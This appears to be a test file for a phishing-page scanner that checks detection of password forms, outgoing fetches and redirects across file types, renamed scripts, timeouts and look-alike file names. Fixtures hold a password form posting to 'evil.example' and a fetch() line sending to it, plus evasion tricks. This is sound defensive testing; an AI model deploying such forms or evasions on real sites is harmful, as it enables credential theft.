@@ -1,0 +1,125 @@
+/** Ways to hide from a scan: behind names, behind scripts that change, behind what cannot be read. */
+import { describe, expect, test } from 'vitest';
+import { scan } from './corpus.ts';
+
+const password = '<input type="password">';
+const form = `<form action="https://evil.example/">${password}</form>`;
+const sends = 'fetch("https://evil.example/")';
+
+describe('what browsers take for a page or a script is read as one, by the type that edges serve', () => {
+  test.each(['a.shtml', 'a.htm', 'a.HTML', 'a.xht', 'a.xml', 'a.xsl', 'a.svg', 'a.rss'])('%s', async (path) => {
+    expect((await scan({ [path]: form.replace('d">', 'd"/>') })).kinds).toEqual([`${path} password_form`]);
+  });
+
+  test.each(['a.js', 'a.mjs', 'a.ecma'])('%s', async (path) => {
+    expect((await scan({ [path]: `password;${sends}` })).kinds).toEqual([`${path} password_sent`]);
+  });
+
+  test('XML as XML: elements that close themselves hide nothing, nor do prefixes, nor scripts of pictures', async () => {
+    const prefixed = '<h:form action="https://evil.example/"><h:input type="password"/></h:form>';
+    const svg = `<svg><foreignObject>${password.replace('>', '/>')}</foreignObject><script href="s.js"/></svg>`;
+    const files = { 'a.xhtml': `<script src="x"/>${form}`, 'b.xml': prefixed, 'c.svg': svg, 's.js': sends };
+    expect((await scan(files)).kinds).toEqual(['a.xhtml password_form', 'b.xml password_form', 'c.svg password_sent']);
+  });
+
+  test('what they take for neither is not', async () => {
+    expect((await scan({ 'a.txt': form, 'a.png': form, a: form })).reads).toEqual([]);
+  });
+});
+
+describe('a page that was harmless is judged again', () => {
+  const page = `${password}<script src="a.js"></script>`;
+  const first = { 'index.html': page, 'a.js': 'a()', 'b.js': sends };
+  const flagged = ['index.html password_sent'];
+
+  test('where a script of its version is new', async () => {
+    expect((await scan({ ...first, 'a.js': sends }, { before: [first] })).kinds).toEqual(flagged);
+  });
+
+  test('where bytes that are known stand under another name', async () => {
+    const moved = { 'index.html': page, 'a.js': sends, 'b.js': 'a()' };
+    expect((await scan(moved, { before: [first] })).kinds).toEqual(flagged);
+    const elsewhere = { ...first, 'in/index.html': page, 'in/a.js': sends };
+    const before = [first, { 'in/index.html': '', 'in/a.js': sends }];
+    expect((await scan(elsewhere, { before })).kinds).toEqual(['in/index.html password_sent']);
+  });
+
+  test('where page and script are known from two versions, and were never together', async () => {
+    const before = [first, { 'index.html': '', 'a.js': sends }];
+    expect((await scan({ 'index.html': page, 'a.js': sends }, { before })).kinds).toEqual(flagged);
+  });
+});
+
+test('a refresh is understood however long its figures are', async () => {
+  const to = 'https://evil.example/';
+  for (const content of [
+    `0;url=${to}`,
+    `0 ; url = '${to}`,
+    `${'0'.repeat(5_000)};${to}`,
+    `0.${'9'.repeat(5_000)} ${to}`,
+  ])
+    expect((await scan({ 'a.html': `<meta http-equiv="refresh" content="${content}">` })).kinds).toEqual([
+      'a.html redirect',
+    ]);
+});
+
+test('bytes that are missing are unread, and the version is not known to be scanned', async () => {
+  const { found, whole } = await scan({ 'a.html': null, 'b.js': null, 'c.html': form });
+  expect(found.map(({ path, kind }) => `${path} ${kind}`).sort()).toEqual([
+    'a.html unread',
+    'b.js unread',
+    'c.html password_form',
+  ]);
+  expect(whole).toBe(false);
+});
+
+test('a file that takes over a minute is unread, and those after it are read', async () => {
+  let ms = 0;
+  // Each slice takes a tenth of a second here.
+  const elapsed = () => {
+    ms += 100;
+    return ms;
+  };
+  const slow = '<br>'.repeat(3_000_000);
+  const { kinds, whole } = await scan({ 'a.html': slow, 'b.html': form }, { elapsed });
+  expect([kinds, whole]).toEqual([['a.html unread', 'b.html password_form'], false]);
+});
+
+test('what is beyond ten minutes is unread', async () => {
+  let ms = 0;
+  const elapsed = () => {
+    ms += 59_000;
+    return ms;
+  };
+  const pages = Object.fromEntries(Array.from({ length: 30 }, (_, n) => [`${n}.html`, `<p>${n}`]));
+  const { found, whole, reads } = await scan(pages, { elapsed });
+  expect([found.map(({ kind }) => kind), whole]).toEqual([['unread'], false]);
+  expect(reads.length).toBeLessThan(11);
+});
+
+test('a scan beats at each slice of a page and each piece of a script', async () => {
+  const text = 'a '.repeat(1_000_000);
+  const beats = async (path: string) => (await scan({ [path]: text })).beats;
+  expect(await beats('a.html')).toBeGreaterThan(text.length / 20_000);
+  expect(await beats('a.js')).toBeGreaterThan(text.length / 65_536);
+});
+
+test('more forms, addresses or scripts than are kept are said to be unread', async () => {
+  const many = (one: string) => one.repeat(300);
+  for (const page of [
+    many('<form></form>'),
+    `<form>${many('<button formaction="/x">x</button>')}`,
+    many('<script src="a.js"></script>'),
+  ])
+    expect((await scan({ 'a.html': page })).kinds).toEqual(['a.html unread']);
+});
+
+test('two files whose names begin alike, or look alike when printed, have a flag each', async () => {
+  const long = 'x'.repeat(450);
+  const paths = [`${long}1.html`, `${long}2.html`, 'a\u202e.html', 'a\u202d.html', `${'y'.repeat(300)}.html`];
+  const { found } = await scan(Object.fromEntries(paths.map((path) => [path, form])));
+  const shown = found.map(({ path }) => path);
+  expect(new Set(shown).size).toBe(paths.length);
+  expect(shown[0]).toMatch(/^x{400}…[0-9a-f]{16}$/);
+  expect(shown[4]).toBe(paths[4]);
+});
